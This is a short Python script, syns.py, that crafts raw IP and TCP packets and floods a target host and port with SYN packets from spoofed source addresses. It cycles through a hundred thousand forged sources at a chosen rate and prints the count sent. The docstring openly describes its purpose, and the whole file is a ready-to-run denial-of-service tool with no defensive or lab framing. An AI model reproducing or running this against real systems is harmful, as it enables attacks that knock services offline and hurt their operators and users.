"""
First packets of connections that nobody means to make, from addresses that nobody has: syns.py SOURCE TARGET PORT RATE, for a
hundred thousand sources from SOURCE on, so many a second, until the end of the input. Prints how many were sent.
"""
import socket, struct, sys, threading, time

source, target = (struct.unpack("!I", socket.inet_aton(text))[0] for text in sys.argv[1:3])
port, rate = int(sys.argv[3]), float(sys.argv[4])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = 0


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def flood():
    global sent
    while True:
        ours = source + sent % 100_000
        tcp = struct.pack("!HHIIBBHHH", 1024 + sent % 60000, port, sent, 0, 5 << 4, 2, 64240, 0, 0)
        pseudo = struct.pack("!IIBBH", ours, target, 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBHII", 0x45, 0, 40, sent & 0xFFFF, 0, 64, 6, 0, ours, target)
        raw.sendto(ip + tcp, (sys.argv[2], 0))
        sent += 1
        time.sleep(1 / rate)


threading.Thread(target=flood, daemon=True).start()
sys.stdin.read()
print(sent)
